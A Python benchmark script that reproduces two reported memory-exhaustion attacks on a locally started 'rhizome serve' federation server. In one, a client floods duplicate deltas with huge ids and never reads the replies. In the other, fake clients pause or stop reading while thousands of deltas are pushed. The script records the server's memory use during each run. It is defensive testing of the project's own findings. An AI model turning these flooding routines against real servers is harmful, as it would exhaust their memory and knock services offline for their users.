"""The memory attacks of issue #8 (findings 2 and 3) against a real ``rhizome serve``.

    python -m bench.attack_memory [--attack dup-ack,parked] [--memory]

``dup-ack`` (finding 2): a client with a tiny receive buffer sends the same delta (a 1 MiB id)
600 times and never reads; every duplicate is acknowledged again with the 1 MiB id. Then it
closes its socket. ``dup-ack-4k``: the same with an id of 4,000 characters (within the length
cap), 20,000 times: 80 MB of acknowledgements the client never reads.

``parked`` (finding 3): 20 clients with made-up system ids connect, ``pause`` and leave, while
a 21st pushes 10,000 deltas of about 1 KB. ``parked-unread``: the same, but the 20 do not pause:
they never read what is relayed to them.

For each attack, the server's RSS (``VmRSS`` of the ``rhizome serve`` process, MB) is printed
before, at the peak during the attack, and 2 s after the attackers left. The server runs in a
subprocess with its own SQLite file (``--memory``: a memory store).
"""

from __future__ import annotations

import argparse
import socket
import tempfile
import threading
import time
from pathlib import Path

from bench.procs import Proc, rhizome
from bench.wire import T0, client_frame, client_upgrade, dumps

MIB = 1024 * 1024


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def hello(system_id: str, initial_sync: str = "none") -> bytes:
    return dumps(
        {
            "type": "hello",
            "timestamp": T0,
            "systemId": system_id,
            "config": {"mode": "bidirectional", "initialSync": initial_sync},
            "protocol": "rhizomedb-federation-v1",
        }
    )


def delta(delta_id: str, system: str, text: str = "x") -> dict[str, object]:
    return {
        "id": delta_id,
        "timestamp": T0,
        "author": "attacker",
        "system": system,
        "pointers": [{"role": "text", "target": text}],
    }


class Peak:
    """Samples the server's RSS every 50 ms while the attack runs."""

    def __init__(self, pid: int) -> None:
        self.pid, self.peak, self._stop = pid, 0.0, threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, rss_mb(self.pid))
            time.sleep(0.05)

    def __enter__(self) -> Peak:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, rss_mb(self.pid))


def dup_ack(url: str, id_size: int = MIB, times: int = 600) -> None:
    """Finding 2: the same 1 MiB-id delta 600 times, never reading."""
    sock, _, _ = client_upgrade(url, 30)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.sendall(client_frame(hello("attacker-dup")))
    message = client_frame(
        dumps({"type": "delta", "timestamp": T0, "delta": delta("i" * id_size, "attacker-dup")})
    )
    sock.settimeout(5)
    try:
        for _ in range(times):
            sock.sendall(message)
    except OSError:
        pass  # the server stopped reading us, or closed the connection
    time.sleep(1)
    sock.close()


def parked(url: str, clients: int = 20, deltas: int = 10_000, pause: bool = True) -> None:
    """Finding 3: clients with made-up ids pause (or just never read) and leave while deltas
    are pushed."""
    socks = []
    for i in range(clients):
        sock, _, _ = client_upgrade(url, 30)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(client_frame(hello(f"made-up-{i}")))
        if pause:
            sock.sendall(client_frame(dumps({"type": "pause", "timestamp": T0})))
        socks.append(sock)
    pusher, _, _ = client_upgrade(url, 30)
    pusher.sendall(client_frame(hello("pusher")))
    filler = "y" * 900
    for i in range(deltas):
        message = {"type": "delta", "timestamp": T0, "delta": delta(f"p-{i}", "pusher", filler)}
        pusher.sendall(client_frame(dumps(message)))
    time.sleep(2)  # let the server take them all in
    for sock in socks:
        sock.close()
    pusher.close()


def dup_ack_4k(url: str) -> None:
    """Finding 2 within the id cap: 4,000-character ids, 20,000 times."""
    dup_ack(url, 4000, 20_000)


def parked_unread(url: str) -> None:
    """Finding 3 with clients that do not pause but never read what is relayed to them."""
    parked(url, pause=False)


ATTACKS = {
    "dup-ack": dup_ack,
    "dup-ack-4k": dup_ack_4k,
    "parked": parked,
    "parked-unread": parked_unread,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--attack", default=",".join(ATTACKS))
    parser.add_argument("--memory", action="store_true", help="a memory store (else SQLite)")
    args = parser.parse_args()
    for name in args.attack.split(","):
        with tempfile.TemporaryDirectory() as tmp:
            store = ["--memory"] if args.memory else ["--db", str(Path(tmp) / "attack.sqlite")]
            argv = rhizome("serve", "--port", "0", *store, "--system-id", "victim")
            with Proc(argv, Path(tmp) / "serve.log") as server:
                url = "ws://" + server.line("listening on ws://", 30).strip()
                time.sleep(0.5)
                before = rss_mb(server.pid)
                with Peak(server.pid) as peak:
                    ATTACKS[name](url)
                time.sleep(2)
                after = rss_mb(server.pid)
                print(
                    f"{name:8s} RSS before {before:6.0f} MB  peak {peak.peak:6.0f} MB  "
                    f"after {after:6.0f} MB",
                    flush=True,
                )


if __name__ == "__main__":
    main()
